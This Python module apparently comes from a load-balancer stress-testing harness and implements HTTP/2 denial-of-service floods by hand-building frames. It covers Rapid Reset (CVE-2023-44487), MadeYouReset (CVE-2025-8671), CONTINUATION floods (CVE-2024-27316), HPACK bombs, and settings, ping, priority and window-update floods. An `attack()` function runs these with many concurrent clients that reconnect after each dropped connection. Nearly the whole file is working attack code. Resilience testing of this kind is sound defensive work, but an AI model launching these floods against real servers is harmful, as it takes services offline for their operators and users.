"""Clients of HTTP/2 that cost as much as they can, connection after connection.

Frames are written by hand: no library says them. Responses are read and discarded; a connection
that the balancer ends is followed by another.
"""

from __future__ import annotations

import asyncio
import time
from itertools import count, cycle
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

Fields = list[tuple[bytes, bytes]]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BLOCK = 200  # units that are written at a time
_PAUSE = 0.01  # seconds before the next connection


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def head(
    stream: int, *more: tuple[bytes, bytes], method: bytes = b"GET", ends: bool = True
) -> bytes:
    """Literal fields, so the connection's table stays empty."""
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"a")]
    block = b"".join(b"\0%c%b%c%b" % (len(n), n, len(v), v) for n, v in (*fields, *more))
    return frame(1, 4 | ends, stream, block)


_SETTINGS = frame(4, 0, 0)
_LENGTH = (b"content-length", b"1")


def _streams() -> Iterator[int]:
    return count(1, 2)


def _resets() -> Iterator[bytes]:
    """CVE-2023-44487: each stream is reset as soon as it is open."""
    for stream in _streams():
        yield head(stream) + frame(3, 0, stream, (8).to_bytes(4, "big"))


def _late_resets() -> Iterator[bytes]:
    """The same, but 50 streams later, so that many are at a server."""
    for stream in _streams():
        late = stream - 100
        yield head(stream) + (frame(3, 0, late, (8).to_bytes(4, "big")) if late > 0 else b"")


def _made_resets() -> Iterator[bytes]:
    """CVE-2025-8671: the balancer has to reset each."""
    for stream in _streams():
        yield head(stream, _LENGTH, method=b"POST", ends=False) + frame(0, 0, stream, b"xx")


def _malformed() -> Iterator[bytes]:
    for stream in _streams():
        yield head(stream, (b"connection", b"close"))


def _continuations() -> Iterator[bytes]:
    """CVE-2024-27316."""
    yield frame(1, 1, 1, b"\x82")
    while True:
        yield frame(9, 0, 1, b"\x84")


def _unpacked() -> Iterator[bytes]:
    """HPACK bombs: a long field enters the table once, and then takes a byte each time."""
    long = b"\x40\x01x\x7f\xa1\x0e" + b"v" * (127 + 0x21 + 0x0E * 128)
    for stream in _streams():
        plain = head(stream)[9:]
        yield frame(1, 5, stream, plain + (long if stream == 1 else b"") + b"\xbe" * 3000)


def _endless(first: bytes, unit: bytes) -> Callable[[], Iterator[bytes]]:
    def made() -> Iterator[bytes]:
        yield first
        while True:
            yield unit

    return made


def _unread() -> Iterator[bytes]:
    """Responses that no window lets through; the windows grow by a byte now and then."""
    yield frame(4, 0, 0, b"\0\4" + bytes(4))
    for stream in range(1, 200, 2):
        large = head(stream).replace(b"\5:path\1/", b"\5:path\6/large")
        yield len(large[9:]).to_bytes(3, "big") + large[3:]
    while True:
        for stream in range(1, 200, 2):
            yield frame(8, 0, stream, (1).to_bytes(4, "big"))


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "resets": _resets,
    "late resets": _late_resets,
    "made resets": _made_resets,
    "malformed requests": _malformed,
    "continuations": _continuations,
    "unpacked heads": _unpacked,
    "settings": _endless(b"", _SETTINGS),
    "pings": _endless(b"", frame(6, 0, 0, bytes(8))),
    "empty data": _endless(head(1, method=b"POST", ends=False), frame(0, 0, 1)),
    "priorities": _endless(head(1, method=b"POST", ends=False), frame(2, 0, 1, b"\0\0\0\3\7")),
    "windows": _endless(
        head(1, method=b"POST", ends=False), frame(8, 0, 1, (1).to_bytes(4, "big"))
    ),
    "unread responses": _unread,
}
#: What the two scenarios send.
MIXES = {"http2-resets": ["resets", "late resets", "made resets"], "http2-floods": list(KINDS)}


class _Sums:
    def __init__(self) -> None:
        self.sent = 0  # bytes
        self.ended = 0  # connections, by the balancer


async def _connection(address: tuple[str, int], kind: str, until: float, sums: _Sums) -> None:
    reader, writer = await asyncio.open_connection(*address)
    discards = asyncio.get_running_loop().create_task(_discard(reader))
    units = KINDS[kind]()
    writer.write(_PREFACE + _SETTINGS + frame(4, 1, 0))
    try:
        while time.monotonic() < until and not discards.done():
            block = b"".join(unit for unit, _ in zip(units, range(_BLOCK), strict=False))
            writer.write(block)
            sums.sent += len(block)
            await asyncio.wait_for(writer.drain(), 1.0)
            await asyncio.sleep(0)
        sums.ended += discards.done()
    except TimeoutError:
        pass  # it is not read any more, which is one way to bound it
    except OSError:
        sums.ended += 1
    finally:
        discards.cancel()
        writer.transport.abort()


async def _discard(reader: asyncio.StreamReader) -> None:
    try:
        while await reader.read(256 * 1024):
            pass
    except OSError:
        pass


async def _client(address: tuple[str, int], kind: str, until: float, sums: _Sums) -> None:
    while time.monotonic() < until:
        try:
            await _connection(address, kind, until, sums)
        except OSError:
            sums.ended += 1
        await asyncio.sleep(_PAUSE)


async def attack(
    mix: str, address: tuple[str, int], clients: int, seconds: float
) -> tuple[int, int]:
    """-> the bytes that were sent, and the connections that the balancer has ended."""
    sums, until = _Sums(), time.monotonic() + seconds
    kinds = [kind for kind, _ in zip(cycle(MIXES[mix]), range(clients), strict=False)]
    await asyncio.gather(*(_client(address, kind, until, sums) for kind in kinds))
    return sums.sent, sums.ended
